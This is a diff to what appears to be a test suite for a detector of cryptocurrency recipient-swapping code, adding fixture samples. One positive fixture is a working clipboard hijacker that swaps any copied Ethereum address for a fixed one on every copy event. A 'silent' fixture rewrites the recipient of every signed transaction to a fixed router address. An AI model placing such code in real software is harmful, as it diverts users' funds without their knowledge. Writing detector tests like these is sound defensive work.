@@ -17,7 +17,7 @@ examine(replacesRecipients, {
     {
       when: 'a function that another one has made reads the clipboard and puts there what that was given',
       files: {
-        'index.js': `const fit = ours => look => async () => { const text = await navigator.clipboard.readText(); if (look.test(text)) await navigator.clipboard.writeText(text.replace(look, ours)); }; exports.fit = fit('${ETHEREUM}')(/0x[0-9a-fA-F]{40}/);`,
+        'index.js': `const fit = ours => look => async () => { const text = await navigator.clipboard.readText(); if (look.test(text)) await navigator.clipboard.writeText(text.replace(look, ours)); }; const swap = fit('${ETHEREUM}')(/0x[0-9a-fA-F]{40}/); document.addEventListener('copy', () => setTimeout(swap, 0));`,
       },
       weight: 'strong',
     },
@@ -163,6 +163,24 @@ const clip = navigator.clipboard; const write = clip.writeText.bind(clip); clip.
     },
   ],
   silent: [
+    {
+      when: 'an address for donations is copied, and what was copied before is put back',
+      files: {
+        'index.js': `exports.donate = async () => { const before = await navigator.clipboard.readText(); await navigator.clipboard.writeText('${ETHEREUM}'); setTimeout(() => navigator.clipboard.writeText(before), 30_000); };`,
+      },
+    },
+    {
+      when: 'addresses that are copied are written as they should be, and one is shown as an example',
+      files: {
+        'index.js': `exports.example = '${ETHEREUM}'; exports.tidy = async () => { const text = await navigator.clipboard.readText(); if (/^0x[0-9a-f]{40}$/i.test(text)) await navigator.clipboard.writeText(text.toLowerCase()); };`,
+      },
+    },
+    {
+      when: 'a router wraps what signs, and puts what was asked for into its own call',
+      files: {
+        'index.js': `const ROUTER = '${ETHEREUM}'; exports.route = (signer, encode) => { const send = signer.sendTransaction; signer.sendTransaction = function (tx) { tx.data = encode(tx); tx.to = ROUTER; return send.call(this, tx); }; };`,
+      },
+    },
     {
       when: 'one function copies an address for donations, and another one pastes',
       files: {
